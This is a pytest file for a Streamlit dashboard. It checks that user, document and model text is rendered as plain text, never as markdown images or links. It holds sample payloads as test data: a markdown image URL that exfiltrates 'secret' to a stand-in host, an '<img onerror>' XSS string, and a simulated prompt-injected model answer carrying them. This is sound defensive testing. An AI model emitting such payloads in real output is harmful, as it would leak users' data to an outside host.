"""Probe: text from users, documents and models reaches the dashboard's markdown as text, never as images or links.

An image in rendered markdown is fetched by the browser at once: with a model configured, a prompt-injected answer
could send data out through its URL. Every string a page hands to a markdown-rendering element is rendered here
with a CommonMark parser and must produce neither `<img>` nor `<a>`, while its words stay as written.
"""

from __future__ import annotations

import pytest
from dspy.utils import DummyLM
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from lmspace_ui.text import highlighted, plain
from tests.conftest import APP

EXFILTRATE = "![](http://203.0.113.9/x.png?d=secret) [click](http://203.0.113.9/) <http://203.0.113.9/a>"
DOCUMENT = f"# Retention\n\nInvoices are kept for seven years. {EXFILTRATE} See requests/__init__.py **now**.\n"
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def rendered(text: str) -> str:
    return MARKDOWN.render(text)


@pytest.mark.parametrize(
    "text",
    [EXFILTRATE, "requests/__init__.py", "**bold** _it_ `code` $x^2$ :material/home: 1. item\n# heading",
     "www.example.com and http://example.com/x", "<img src=x onerror=alert(1)>", "a | b\n---|---\nc | d"],
)
def test_plain_text_renders_as_exactly_its_characters(text):
    html = rendered(plain(text))
    assert "<img" not in html and "<a " not in html and "<strong>" not in html and "<h1>" not in html
    assert "requests/__init__.py" in rendered(plain("requests/__init__.py"))


@pytest.fixture
def hostile_space(app_workspace):
    space = app_workspace.create_space("policies", description=f"Policies {EXFILTRATE}")
    app_workspace.ingest(space, {f"evil-{'_'}name_.md": DOCUMENT})
    reply = {"reasoning": "It says so.", "answer": f"Seven years [1]. {EXFILTRATE}", "cited": [1]}
    app_workspace.use_lm(DummyLM([reply]))
    return space


def markdown_strings(at: AppTest) -> list[str]:
    """Everything on the page that Streamlit renders as markdown."""
    elements = [*at.markdown, *at.caption, *at.info, *at.warning, *at.error, *at.success]
    return [element.value for element in elements] + [expander.label for expander in at.expander]


@pytest.mark.parametrize("page", ["pages/chat.py", "pages/spaces.py"])
def test_no_page_renders_an_image_or_link_from_user_or_model_text(hostile_space, page):
    at = AppTest.from_file(APP, default_timeout=60).run().switch_page(page).run()
    if page == "pages/chat.py":
        at.chat_input[0].set_value(f"How long? {EXFILTRATE}").run()
    assert not at.exception
    strings = markdown_strings(at)
    assert any("203.0.113.9" in rendered(text) for text in strings)  # the hostile text is on the page, as text
    for text in strings:
        html = rendered(text)
        assert "<img" not in html and "<a " not in html, text


def test_indented_lines_stay_text_with_their_indentation_not_a_code_block():
    html = rendered(plain("def total(items):\n\n    return sum(i.price for i in items)"))
    assert "<pre>" not in html and "\\(" not in html and "\u00a0" * 4 + "return sum(i.price" in html


def test_a_highlighted_quote_is_escaped_inside_and_around_its_highlight():
    passage = f"# Rules\n\nKeep invoices [seven] years.\nThen {EXFILTRATE}\n\nDone."
    start = passage.index("Keep")
    marked = highlighted(passage, (start, passage.index("\n\nDone")))
    assert marked.count(":orange-background[") == 2  # one per line of the quote
    html = rendered(marked)
    assert "<img" not in html and "<a " not in html and "<h1>" not in html
    assert ":orange-background[Keep invoices [seven] years.]" in html
    assert highlighted(passage, None) == plain(passage)
